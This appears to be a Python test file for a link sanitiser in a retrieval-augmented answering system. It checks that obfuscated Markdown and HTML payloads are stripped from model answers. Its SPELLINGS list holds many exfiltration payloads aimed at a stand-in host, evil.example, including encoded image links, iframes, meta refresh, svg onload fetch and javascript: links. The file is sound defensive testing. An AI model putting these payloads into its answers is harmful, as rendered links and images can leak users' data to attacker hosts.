"""What is left of an answer leads nowhere strange, as a Markdown renderer and a browser read it."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.answer.destinations import leads_away, level
from rag.answer.links import clear_links, ends_in_link

KNOWN = ["See ![plan](https://known.example/plan.png) and [more](https://known.example/a)."]
SPELLINGS = [
    "![a](http&#58;//evil.example/?q=S)",
    "![a](http\\://evil.example/?q=S)",
    "![a](&#104;ttp://evil.example/?q=S)",
    "![a](h&#x74;tps&colon;&sol;&sol;evil.example/S)",
    "![a](\\//evil.example/?q=S)",
    "![a](/\\evil.example/?q=S)",
    "![a](\\\\\\\\evil.example/S)",
    "![a](https:evil.example/?q=S)",
    "![a](http:/evil.example/?q=S)",
    "![a](<https://evil.example/a b S>)",
    "![a](<ht\ttps://evil.example/S>)",
    "![a\n](\n//evil.example/S 'title')",
    "![[b](c)](//evil.example/S)",
    "[![a](//evil.example/S)](https://known.example/a)",
    "![x\\](//known.example/S) b](//evil.example/S)",
    "![a][x]\n\n[x]: &#x68;ttps://evil.example/S",
    "![x]\n\n> [x]:\n> //evil.example/S",
    "![a] [x]\n\n[x]:\n //evil.example/S",
    "<iframe src=//evil.example/S>",
    "<link rel=stylesheet href=//evil.example/?S>",
    "<img srcset='x.png 1x, //evil.example/S 2x'>",
    "<img alt='>' src=//evil.example/S>",
    "<img\nsrc='https&#58;//evil.example/S'\n>",
    "<img src=//evil.example/S",
    "<video poster=https:evil.example/S>",
    "<svg><image xlink:href=&#x2f;/evil.example/S /></svg>",
    "<svg/onload=fetch('//evil.example/S')>",
    "<table background=//evil.example/S>",
    '<p style="background:url(\\2f/evil.example/S)">',
    "<style>@import '//evil.example/S'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/S'>",
    "<base href=//evil.example/S>",
    "<iframe srcdoc='<img src=//evil.example/S>'>",
    "[a](javascript:alert(1))",
    "[a](data:text/html,evil.example)",
    "<a href='java\nscript:alert(`evil.example`)'>a</a>",
    "www.evil.example/S",
    "ftp://evil.example/S",
]


class Leads(HTMLParser):
    """Collects where a page leads, and what runs in it."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        values = [value for _, value in attributes if value and ("evil" in value or "script:" in value)]
        self.found += [value for value in values if leads_away(level(value)) or "//evil" in value]
        self.found += [tag] * (tag in ("style", "script", "iframe", "base", "meta", "link"))


def shown(text):
    """Where a text leads when it is shown, with bare addresses made links as chat programs do."""
    page = Leads()
    page.feed(MarkdownIt("commonmark", {"html": True}).render(text))
    page.close()
    return page.found


@pytest.mark.parametrize("text", SPELLINGS)
@pytest.mark.parametrize("around", ["{}", "The limit is 8 kg [1]. {} It was raised.", "- one\n- {}\n\n> two"])
def test_no_spelling_of_a_strange_address_leads_anywhere(text, around):
    cleared = clear_links(around.format(text), KNOWN, ())
    assert cleared.removed >= 1
    assert shown(cleared.text) == []


def test_a_picture_whose_place_no_passage_names_is_taken_out_whatever_it_looks_like():
    assert clear_links("![a](plan.png)", KNOWN, ()).removed == 1
    assert clear_links("![a](plan.png)", ["![b](plan.png)"], ()).removed == 0


@pytest.mark.parametrize(
    "text",
    [
        "![plan](https://known.example/plan.png) and [more](https://known.example/a)",
        "a<b and c>d, [1], see [x]: y, f(x)[0](1)",
        "<b>bold</b> and <br> and x < y",
        "[up](../a.md) and [down](#part)",
        "The array a[i](j) is 3 // 2.",
    ],
)
def test_what_is_known_or_leads_nowhere_stays(text):
    assert clear_links(text, KNOWN, ()).text == text


def test_a_tag_that_a_passage_holds_letter_for_letter_stays():
    tag = '<script src="https://known.example/x.js">'
    assert clear_links(f"Write {tag} first.", [f"Put {tag} into the head."], ()).removed == 0
    assert clear_links(f"Write {tag} first.", KNOWN, ()).removed == 1


SIGNS = ["![", "[", "](", ")", "]", "<", ">", "\\", "&#58;", "a", " ", "\n", "'", '"']


@given(st.lists(st.sampled_from(SIGNS), max_size=12))
def test_no_surrounding_makes_a_strange_picture_pass(signs):
    for place in range(0, len(signs) + 1, 3):
        text = "".join([*signs[:place], "![a](http&#58;//evil.example/S)", *signs[place:]])
        assert shown(clear_links(text, KNOWN, ()).text) == [], text


@given(st.text(alphabet="htps:/\\&#58;a.%\t\n ", max_size=30))
def test_levelling_an_address_again_changes_nothing_of_where_it_leads(address):
    assert leads_away(level(level(address))) or not leads_away(level(address))


@pytest.mark.parametrize("text", ["[x]: ", "![a](\n", "<img\nsrc='", "<style>a { b }", "see www.ex"])
def test_more_that_may_become_an_address_is_waited_for(text):
    assert ends_in_link(text)
